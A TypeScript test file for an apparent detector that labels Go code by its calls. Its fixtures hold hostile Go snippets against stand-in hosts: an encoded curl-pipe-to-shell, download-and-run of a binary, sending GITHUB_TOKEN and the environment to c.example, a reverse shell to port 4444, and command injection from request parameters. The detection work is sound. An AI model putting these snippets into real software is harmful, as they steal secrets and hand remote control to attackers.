/** What programs in Go do, by the call table. Nothing here is run; dangerous words are put together. */
import { GO_CALLS, goCues } from "../../../../src/evidence/readers/calls/go.ts";
import { actionsOf } from "./actions-of.ts";

const PIPED = ["curl https://files.example |", " sh"].join("");
const IMPORTS = ["encoding/base64", "io", "net", "net/http", "os", "os/exec", "strings", "github.com/gin-gonic/gin"];

async function told(body: string): Promise<string[]> {
  return actionsOf("a/a.go", `package a\nimport (${IMPORTS.map((one) => `"${one}"`).join("; ")})\n${body}`);
}

test.each([
  [
    `func init() { d, _ := base64.StdEncoding.DecodeString("${btoa(PIPED)}"); exec.Command("sh", "-c", string(d)).Run() }`,
    [
      `run ${PIPED} by sh <- decoded:base64`,
      "fetch files.example by curl",
      "run computed from fetched by sh <- fetched:files.example",
    ],
  ],
  [
    `func init() { r, err := http.Get("https://files.example/p"); if err != nil { return }
     body, _ := io.ReadAll(r.Body); os.WriteFile("/tmp/p", body, 0755); exec.Command("/tmp/p").Start() }`,
    [
      "fetch files.example by net/http.Get",
      "write /tmp/p by os.WriteFile <- fetched:files.example",
      "run /tmp/p by command <- fetched:files.example",
    ],
  ],
  [
    `func send() { req, _ := http.NewRequest("POST", "https://c.example", strings.NewReader(os.Getenv("GITHUB_TOKEN")))
     client := &http.Client{}; client.Do(req) }`,
    ["send c.example by net/http.Client.Do <- environment:GITHUB_TOKEN later"],
  ],
  [
    `type S struct { client *http.Client }
     func (s *S) post() { for _, e := range os.Environ() { s.client.Post("https://c.example", "", e) } }`,
    ["send c.example by net/http.Client.Post <- environment later"],
  ],
  [
    `func init() { conn, _ := net.Dial("tcp", "c.example:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = conn; cmd.Run() }`,
    ["fetch c.example by net.Dial", "run /bin/sh by os/exec.Cmd.Stdin= <- fetched:c.example"],
  ],
  [
    `func h(w http.ResponseWriter, r *http.Request) { exec.Command("sh", "-c", r.URL.Query().Get("q")).Run() }
     func g(c *gin.Context) { os.RemoveAll(c.Query("x")) }`,
    [
      "run computed from request by sh <- request later",
      "delete computed from request by os.RemoveAll <- request later",
    ],
  ],
])("tells what %s does", async (body, expected) => {
  expect(await told(body)).toEqual(expected);
});

test("gives each row a source and each cue in lower case", () => {
  expect(GO_CALLS.rows.filter(({ source }) => source === "")).toEqual([]);
  expect(goCues.all().filter((cue) => cue !== cue.toLowerCase())).toEqual([]);
});

test("wakes for none of the lines of everyday code", () => {
  const lines = [
    "if err != nil {",
    "return nil, err",
    'fmt.Println("x")',
    "for i := range list {",
    "func (s *S) Len() int {",
  ];
  expect(lines.filter((line) => goCues.all().some((cue) => line.toLowerCase().includes(cue)))).toEqual([]);
});
